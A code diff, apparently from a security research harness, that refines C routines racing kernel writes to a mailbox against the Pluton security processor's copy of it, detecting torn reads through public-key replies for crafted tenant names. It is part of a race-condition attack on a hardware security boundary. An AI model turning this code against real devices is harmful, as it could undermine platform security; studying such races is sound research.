@@ -11,23 +11,26 @@
 enum { MAILBOX = 0x31000000, PUBLIC_KEY = 0x4B, TX = 40, PLUTON = 0x00108000, SLIDES = 24 };
 #define WORD(seq) (2u | (seq) << 8 | (guint32)PUBLIC_KEY << 16 | (guint32)TX << 24)
 
-/* Key of the tenant whose name has this letter, the second one from that byte on. */
-static void key_of(gs_attack *attack, char first, char second, guint from, guint8 key[64])
+/* Key of the tenant whose name is a's, with b's from one byte up to another. */
+static void key_of(gs_attack *attack, guint from, guint to, guint8 key[64])
 {
     guint8 name[64], reply[GS_REMOTE_REPLY_MAX] = { 0 };
-    memset(name, first, sizeof(name));
-    memset(name + from, second, sizeof(name) - from);
+    memset(name, 'a', sizeof(name));
+    memset(name + from, 'b', to - from);
     gs_el1_ask(attack, (gs_remote_ask){ .command = PUBLIC_KEY, .data = name, .size = 64 }, reply);
     memcpy(key, reply, 64);
 }
 
-/* Pluton's one copy may be made while the kernel writes: a name the kernel could have sent as well. */
+/*
+ * Pluton's one copy may be made while the kernel writes, both upwards and each in turns of its own:
+ * then it holds a name the kernel could have sent as well, b's in one stretch.
+ */
 static gboolean is_torn_copy(gs_attack *attack, const guint8 got[64])
 {
     guint8 key[64];
-    for (guint from = 4; from < 64; from += 4) {
-        for (guint way = 0; way < 2; way++) {
-            key_of(attack, way ? 'a' : 'b', way ? 'b' : 'a', from, key);
+    for (guint from = 0; from < 64; from += 4) {
+        for (guint to = from + 4; to <= 64; to += 4) {
+            key_of(attack, from, to, key);
             if (memcmp(key, got, 64) == 0) {
                 return TRUE;
             }
@@ -87,8 +90,8 @@ static void run(gs_attack *attack)
     guint early = 0, late = 0, torn = 0, silent = 0;
     guint32 target = inside_pluton(attack);
     gs_attack_el1(attack);
-    key_of(attack, 'a', 'a', 0, a);
-    key_of(attack, 'b', 'b', 0, b);
+    key_of(attack, 0, 0, a);
+    key_of(attack, 0, 64, b);
     for (guint idle = 0; idle < SLIDES; idle++) {
         gint size = race(attack, idle, GS_REMOTE_BUFFER(TX) + 4, 0x62626262, 16, got);
         gboolean is_a = memcmp(got, a, 64) == 0, is_b = memcmp(got, b, 64) == 0;
